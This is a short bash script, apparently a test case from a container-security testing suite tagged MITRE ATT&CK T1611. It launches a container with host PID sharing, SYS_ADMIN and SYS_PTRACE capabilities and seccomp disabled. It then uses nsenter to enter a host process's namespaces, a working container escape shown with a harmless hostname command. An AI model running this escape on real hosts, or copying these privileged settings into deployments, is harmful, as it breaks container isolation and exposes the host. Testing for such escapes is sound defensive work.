#!/bin/bash
# From a container sharing the host's process table (--pid=host), nsenter joins the mount and
# UTS namespaces of a host process (one this script started) and runs a command there: a real
# escape, it prints the host's name. (T1611)
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../helpers/container.sh"
support sleep 30
target=$!
container_run --pid=host --cap-add SYS_ADMIN --cap-add SYS_PTRACE \
    --security-opt seccomp=unconfined "$IMAGE" nsenter -t "$target" -m -u hostname
